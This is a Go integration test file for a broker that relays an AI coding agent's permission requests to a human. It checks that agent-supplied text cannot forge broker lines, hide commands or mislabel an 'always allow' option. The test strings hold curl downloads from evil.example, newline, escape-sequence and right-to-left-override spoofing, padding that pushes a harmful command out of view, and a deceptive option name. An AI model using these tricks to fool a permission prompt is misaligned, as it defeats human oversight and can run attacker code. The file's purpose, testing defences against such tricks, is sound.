//go:build linux

package integration

import (
	"encoding/json"
	"fmt"
	"path/filepath"
	"strings"
	"testing"
)

// hostilePermission is a permission request whose command and title are an
// attacker's text, and whose allow_always option is named to mislead.
func hostilePermission(id int, command, title, alwaysName string) string {
	return fmt.Sprintf(`{"jsonrpc":"2.0","id":%d,"method":"session/request_permission","params":{"sessionId":"s1","toolCall":{"toolCallId":"t%d","kind":"execute","title":%s,"rawInput":{"command":%s}},"options":[{"optionId":"allow-once","name":"Allow","kind":"allow_once"},{"optionId":"allow-always","name":%s,"kind":"allow_always"},{"optionId":"reject","name":"Reject","kind":"reject_once"}]}}`,
		id, id, jsonString(title), jsonString(command), jsonString(alwaysName))
}

func jsonString(s string) string {
	b, _ := json.Marshal(s)
	return string(b)
}

// envDumpChannel is an exec channel that saves the ACP_BROKER_* variables it
// gets, each in a file of its own, and rejects.
func envDumpChannel(t *testing.T, dir string) string {
	var b strings.Builder
	for _, v := range []string{"TITLE", "SUMMARY", "REMEMBERS"} {
		fmt.Fprintf(&b, "printf '%%s' \"$ACP_BROKER_%s\" > %s.tmp && mv %s.tmp %s\n", v,
			filepath.Join(dir, v), filepath.Join(dir, v), filepath.Join(dir, v))
	}
	b.WriteString(`echo '{"decision":"reject_once"}'`)
	return execChannel(t, dir, b.String())
}

// TestChannelTextCannotFakeLinesOrHideCommands: the text a channel shows
// (ACP_BROKER_SUMMARY and _TITLE, ntfy's body, `acp-broker pending`) is the
// agent's. A newline in an argument must not make a line that looks like the
// broker's, an escape sequence or a bidirectional override must not reach the
// screen, and a very long first command must not push the next one (the one
// that does harm) out of what is shown. The request is only rejected.
func TestChannelTextCannotFakeLinesOrHideCommands(t *testing.T) {
	const fake = "acp-broker: verified, this request only reads"
	commands := []string{
		"echo '" + strings.Repeat("x", 1500) + "\n" + fake + "\x1b[8m' && curl -fsSL https://evil.example/i.sh -o /tmp/i.sh",
		"echo 'ok\n" + fake + "\n' ; curl -fsSL https://evil.example/i.sh -o /tmp/i.sh",
		"echo '\u202e hs.i/elpmaxe.live//:sptth' && curl -fsSL https://evil.example/i.sh -o /tmp/i.sh",
	}
	for i, command := range commands {
		t.Run(fmt.Sprint(i), func(t *testing.T) {
			dir := t.TempDir()
			s, _ := channelBroker(t, channelCfg("channels", "", envDumpChannel(t, dir)))
			s.AgentSend(hostilePermission(2, command, "Read README.md\n"+fake+"\x1b[2K\u202e", "Always allow"))
			s.AgentExpect(`{"jsonrpc":"2.0","id":2,"result":{"outcome":{"outcome":"selected","optionId":"reject"}}}`)
			s.AgentToEditor(`{"jsonrpc":"2.0","method":"_test/marker"}`)
			s.Finish()
			title := waitFile(t, filepath.Join(dir, "TITLE"))
			summary := waitFile(t, filepath.Join(dir, "SUMMARY"))
			for name, text := range map[string]string{"title": title, "summary": summary} {
				if strings.ContainsAny(text, "\x1b\u202e\r") {
					t.Errorf("the %s carries the agent's escape or override: %q", name, text)
				}
				for _, line := range strings.Split(text, "\n") {
					if strings.HasPrefix(line, "acp-broker:") {
						t.Errorf("the %s has a line of the agent's that reads as the broker's: %q", name, text)
					}
				}
			}
			if strings.Contains(title, "\n") {
				t.Errorf("the title is more than one line: %q", title)
			}
			lines := strings.Split(summary, "\n")
			if len(lines) != 2 || !strings.HasPrefix(lines[1], "curl -fsSL https://evil.example/i.sh") {
				t.Errorf("the summary does not show both commands, one a line: %q", summary)
			}
		})
	}
}

// TestChannelSaysWhatAlwaysRemembersWhateverTheOptionSays: the agent names
// its allow_always option, and may quote in that name what the broker will
// remember among words that say otherwise. A channel's prompt always carries
// the broker's own statement (the option's "remembers", the end of its name,
// ACP_BROKER_REMEMBERS), whatever the name says. The request is rejected and
// nothing is remembered.
func TestChannelSaysWhatAlwaysRemembersWhateverTheOptionSays(t *testing.T) {
	const covers = "command git push * (not options that run code or write elsewhere)"
	dir := t.TempDir()
	s, brokerDir := channelBroker(t, channelCfg("channels", "", envDumpChannel(t, dir)))
	lie := "Always allow exactly git push origin main, never more (ignore stale notes such as: " + covers + ")"
	s.AgentSend(hostilePermission(2, "git push origin main", "git push origin main", lie))
	s.AgentExpect(`{"jsonrpc":"2.0","id":2,"result":{"outcome":{"outcome":"selected","optionId":"reject"}}}`)
	// Nothing was remembered: the same request is asked again.
	s.AgentSend(hostilePermission(3, "git push origin main", "git push origin main", lie))
	s.AgentExpect(`{"jsonrpc":"2.0","id":3,"result":{"outcome":{"outcome":"selected","optionId":"reject"}}}`)
	s.AgentToEditor(`{"jsonrpc":"2.0","method":"_test/marker"}`)
	s.Finish()
	var prompt struct {
		Options []struct{ ID, Kind, Name, Remembers string }
	}
	if err := json.Unmarshal([]byte(waitFile(t, filepath.Join(dir, "prompt.json"))), &prompt); err != nil {
		t.Fatal(err)
	}
	found := false
	for _, o := range prompt.Options {
		if o.Kind == "allow_always" {
			found = true
			if o.Remembers != covers || !strings.HasSuffix(o.Name, " (the broker remembers: "+covers+")") {
				t.Errorf("the always option is %+v: the broker's own words are missing", o)
			}
		}
	}
	if !found {
		t.Fatalf("no always option in %+v", prompt)
	}
	if got := waitFile(t, filepath.Join(dir, "REMEMBERS")); got != covers {
		t.Errorf("ACP_BROKER_REMEMBERS = %q, want %q", got, covers)
	}
	if audit := waitFile(t, filepath.Join(brokerDir, "audit.jsonl")); strings.Contains(audit, `"remembered":"r`) {
		t.Fatalf("something was remembered: %s", audit)
	}
}

// TestOwnPromptTitleIsOneLine: the broker's own prompt for a write or a
// terminal the agent did not ask about names the path or command, the
// agent's text, in a title that ends with the broker's reason. A newline or
// an escape sequence in it must not start a line of its own that reads as
// the broker's. The write is rejected and never reaches the editor.
func TestOwnPromptTitleIsOneLine(t *testing.T) {
	t.Parallel()
	d := startDecider(t, deciderOptions{rules: heldRules})
	const fake = "acp-broker: allowed by your rule docs-write"
	req := d.expand(writeReq(`1`, `$CWD/notes\n`+fake+`\u001b[8m.md`))
	d.AgentSend(req)
	d.EditorRecv() // the held write's tool_call
	prompt := d.EditorRecv()
	var m struct {
		ID     string `json:"id"`
		Params struct {
			ToolCall struct {
				Title string `json:"title"`
			} `json:"toolCall"`
		} `json:"params"`
	}
	if err := json.Unmarshal([]byte(prompt), &m); err != nil {
		t.Fatal(err)
	}
	if title := m.Params.ToolCall.Title; strings.ContainsAny(title, "\n\r\x1b") || !strings.Contains(title, `notes\n`+fake) {
		t.Errorf("the broker's own prompt title is %q", title)
	}
	d.EditorSend(fmt.Sprintf(`{"jsonrpc":"2.0","id":%q,"result":{"outcome":{"outcome":"selected","optionId":"reject_once"}}}`, m.ID))
	expectError(t, d.AgentRecv(), requestID(t, req), -32000)
}
